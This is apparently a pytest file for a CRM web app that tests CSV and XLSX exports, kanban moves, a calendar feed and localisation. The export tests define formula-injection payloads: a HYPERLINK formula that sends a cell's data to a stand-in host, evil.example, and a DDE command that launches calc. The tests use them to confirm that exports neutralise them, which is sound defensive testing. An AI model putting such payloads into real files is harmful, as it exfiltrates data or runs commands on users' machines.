"""Exports (CSV, XLSX) under the list's query string; kanban moves; the calendar feed."""
from __future__ import annotations

import base64
import csv
import io
import re


def test_export_csv_rows_equal_the_filtered_list(client, make, unique):
    for n, grade in enumerate(("vip", "vip", "regular")):
        make("account", name=f"{unique} export {n}", grade=grade)
    query = f"q={unique}&fb=1&f=grade&op=eq&v=vip&sort=name"
    html = client.get(f"/app/account?{query}").get_data(as_text=True)
    shown = re.findall(r'class="fw-row-link"[^>]*>([^<]+)</a>', html)
    response = client.get(f"/app/account/export.csv?{query}")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][0] == "Customer name" or rows[0][0]
    assert [r[0] for r in rows[1:]] == shown == [f"{unique} export 0", f"{unique} export 1"]


def test_export_xlsx_has_the_same_rows(client, make, unique):
    from openpyxl import load_workbook

    make("account", name=f"{unique} xlsx", grade="vip")
    response = client.get(f"/app/account/export.xlsx?q={unique}")
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert values == [f"{unique} xlsx"]


HYPERLINK_PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE_PAYLOAD = "+cmd|' /C calc'!A0"


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _loss_making_campaign(make, name: str) -> None:
    """A campaign that spent money and won nothing: its ROI is -100 %, a negative number."""
    make("campaign", name=name, channel="seminar", start_date="2031-01-01", actual_cost="1000")


def test_export_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(client, make, unique):
    make("account", name=f"{HYPERLINK_PAYLOAD} {unique}")
    make("account", name=f"{DDE_PAYLOAD} {unique}")
    response = client.get(f"/app/account/export.csv?q={unique}&sort=name&cols=name")
    names = [r[0] for r in _csv_rows(response)[1:]]
    assert names == [f"'{DDE_PAYLOAD} {unique}", f"'{HYPERLINK_PAYLOAD} {unique}"]


def test_export_csv_quotes_a_text_starting_with_minus_but_not_a_negative_number(client, make, unique):
    _loss_making_campaign(make, f"-{unique} loss")
    rows = _csv_rows(client.get(f"/app/campaign/export.csv?q={unique}&cols=name,roi"))
    assert rows[1] == [f"'-{unique} loss", "-100%"]


def test_export_xlsx_writes_formula_like_text_as_a_string_cell(client, make, unique):
    from openpyxl import load_workbook

    make("account", name=f"{HYPERLINK_PAYLOAD} {unique}")
    make("account", name=f"{DDE_PAYLOAD} {unique}")
    response = client.get(f"/app/account/export.xlsx?q={unique}&sort=name&cols=name")
    cells = [row[0] for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(f"{DDE_PAYLOAD} {unique}", "s"),
                                                       (f"{HYPERLINK_PAYLOAD} {unique}", "s")]


def test_export_xlsx_writes_text_as_a_string_and_a_negative_number_as_a_number(client, make, unique):
    from openpyxl import load_workbook

    _loss_making_campaign(make, f"={unique}*2")
    response = client.get(f"/app/campaign/export.xlsx?q={unique}&cols=name,roi")
    sheet = load_workbook(io.BytesIO(response.data)).active
    name, roi = sheet["A2"], sheet["B2"]
    assert (name.value, name.data_type) == (f"={unique}*2", "s")
    assert roi.data_type == "n" and roi.value < 0


def _xlsx_row(response) -> list:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]


def test_export_xlsx_writes_whole_numbers_and_amounts_as_numbers_with_their_formats(client, make, unique):
    make("account", name=f"{unique} numbers", grade="vip", employees=1200, annual_revenue="1234.5")
    response = client.get(f"/app/account/export.xlsx?q={unique}&cols=employees,annual_revenue,grade")
    employees, revenue, grade = _xlsx_row(response)
    assert (employees.value, employees.data_type, employees.number_format) == (1200, "n", "#,##0")
    assert (revenue.value, revenue.data_type, revenue.number_format) == (1234.5, "n", '"CNY "#,##0.00')
    assert (grade.value, grade.data_type) == ("VIP", "s")


def test_export_xlsx_writes_a_percent_as_a_fraction_shown_as_a_percentage(client, make, unique):
    make("product", name=f"{unique} tea", code=f"T-{unique.upper()}", unit_price="10", tax_rate="25")
    tax_rate, = _xlsx_row(client.get(f"/app/product/export.xlsx?q={unique}&cols=tax_rate"))
    assert (tax_rate.value, tax_rate.data_type, tax_rate.number_format) == (0.25, "n", "0%")


def test_export_xlsx_writes_a_boolean_as_a_boolean(client, make, unique):
    make("product", name=f"{unique} on", code=f"B-{unique.upper()}", unit_price="10", active=True)
    active, = _xlsx_row(client.get(f"/app/product/export.xlsx?q={unique}&cols=active"))
    assert (active.value, active.data_type) == (True, "b")


def test_export_xlsx_writes_a_date_as_an_excel_date(client, make, unique):
    import datetime as dt

    _loss_making_campaign(make, f"{unique} dated")
    start, = _xlsx_row(client.get(f"/app/campaign/export.xlsx?q={unique}&cols=start_date"))
    assert start.is_date and start.number_format == "yyyy-mm-dd"
    assert start.value == dt.datetime(2031, 1, 1)


def test_kanban_has_a_column_per_stage_with_count_and_sum(client):
    html = client.get("/app/opportunity/kanban").get_data(as_text=True)
    for stage in ("Initial contact", "Needs confirmed", "Demo", "Won", "Lost"):
        assert stage in html
    assert 'class="fw-col-total"' in html


def test_kanban_move_saves_the_stage_with_the_version(client, make, unique, ui_runtime):
    account = make("account", name=f"Kanban {unique}")
    opp = make("opportunity", name=f"Move {unique}", stage="initial_contact", account=account["id"],
               close_date="2031-01-31")
    response = client.post(f"/app/opportunity/{opp['id']}/move", data={"value": "needs_confirmed", "version": "1"})
    assert response.get_json()["ok"] is True
    assert ui_runtime.query().get("opportunity", opp["id"])["stage"] == "needs_confirmed"


def test_a_stale_kanban_move_keeps_what_a_colleague_changed_meanwhile(client, make, unique, ui_runtime,
                                                                     admin_actor):
    account = make("account", name=f"Kanban {unique}")
    opp = make("opportunity", name=f"Stale {unique}", stage="initial_contact", account=account["id"],
               close_date="2031-01-31", next_step="email")
    ui_runtime.records(admin_actor).update("opportunity", opp["id"], {"next_step": "call"})
    response = client.post(f"/app/opportunity/{opp['id']}/move", data={"value": "needs_confirmed", "version": "1"})
    body = response.get_json()
    assert (body["ok"], body["version"]) == (True, 3)
    saved = ui_runtime.query().get("opportunity", opp["id"])
    assert (saved["stage"], saved["next_step"]) == ("needs_confirmed", "call")


def test_a_stale_kanban_move_of_a_card_moved_meanwhile_is_refused(client, make, unique, ui_runtime, admin_actor):
    account = make("account", name=f"Kanban {unique}")
    opp = make("opportunity", name=f"Moved {unique}", stage="initial_contact", account=account["id"],
               close_date="2031-01-31")
    ui_runtime.records(admin_actor).update("opportunity", opp["id"], {"stage": "needs_confirmed"})
    response = client.post(f"/app/opportunity/{opp['id']}/move", data={"value": "demo", "version": "1"})
    assert response.status_code == 409 and response.get_json()["ok"] is False
    assert ui_runtime.query().get("opportunity", opp["id"])["stage"] == "needs_confirmed"


def test_kanban_move_to_an_unknown_stage_is_a_validation_message(client, make, unique):
    account = make("account", name=f"Kanban {unique}")
    opp = make("opportunity", name=f"Bad {unique}", stage="initial_contact", account=account["id"],
               close_date="2031-01-31")
    response = client.post(f"/app/opportunity/{opp['id']}/move", data={"value": "mars", "version": "1"})
    assert response.status_code == 422 and "not one of the values" in response.get_json()["message"]


def test_calendar_feed_lists_tasks_in_the_range(client, make, unique):
    make("task", subject=f"Due {unique}", due_at="2031-03-15T09:00:00+00:00")
    events = client.get("/app/task/calendar.json?start=2031-03-01T00:00:00Z&end=2031-04-01T00:00:00Z").get_json()
    assert f"Due {unique}" in [e["title"] for e in events]


def test_chinese_locale_shows_chinese_labels_and_ui_text(client):
    client.post("/locale", data={"locale": "zh"})
    try:
        html = client.get("/app/opportunity").get_data(as_text=True)
    finally:
        client.post("/locale", data={"locale": "en"})
    assert "商机" in html and "筛选" in html and "新建" in html and 'lang="zh-CN"' in html


def test_kanban_column_loads_more_cards_beyond_the_first_page(client, ui_runtime, admin_actor, unique):
    import re

    from ui.records.boards import CARDS_PER_COLUMN

    records = ui_runtime.records(admin_actor)
    account = records.create("account", {"name": f"Many {unique}"})
    contact = records.create("contact", {"name": f"Many {unique}", "account": account["id"],
                                         "email": f"many{unique}@example.com"})
    records.bulk_create("opportunity", [
        {"name": f"More {unique} {n}", "account": account["id"], "stage": "negotiation", "close_date": "2030-01-31",
         "amount": "1000", "primary_contact": contact["id"]}
        for n in range(CARDS_PER_COLUMN + 1)])
    html = client.get("/app/opportunity/kanban").get_data(as_text=True)
    column = html.split('data-value="negotiation" aria-label')[1].split("</ol>")[0]
    first_ids = set(re.findall(r'data-id="(\d+)"', column))
    more = re.search(r'hx-get="([^"]+)"', column).group(1).replace("&amp;", "&")
    extra = client.get(more).get_data(as_text=True)
    extra_ids = set(re.findall(r'data-id="(\d+)"', extra))
    assert len(first_ids) == CARDS_PER_COLUMN and extra_ids and not extra_ids & first_ids


def test_kanban_load_more_refuses_an_unknown_stage(client):
    assert client.get("/app/opportunity/kanban/cards?value=nope").status_code == 400


def test_kanban_load_more_with_a_nested_cursor_is_a_400(client):
    cursor = base64.urlsafe_b64encode(b"[" * 1200 + b"]" * 1200).decode()
    response = client.get(f"/app/opportunity/kanban/cards?value=won&cursor={cursor}")
    assert response.status_code == 400


def test_an_empty_kanban_column_shows_a_zero_total(rep_client):
    html = rep_client.get("/app/opportunity/kanban").get_data(as_text=True)
    totals = re.findall(r'<span class="fw-col-total"[^>]*>([^<]*)</span>', html)
    assert totals and all(totals)                       # "0 · CNY 0.00", never a dangling "0 ·"
    assert 'data-zero="CNY 0.00"' in html
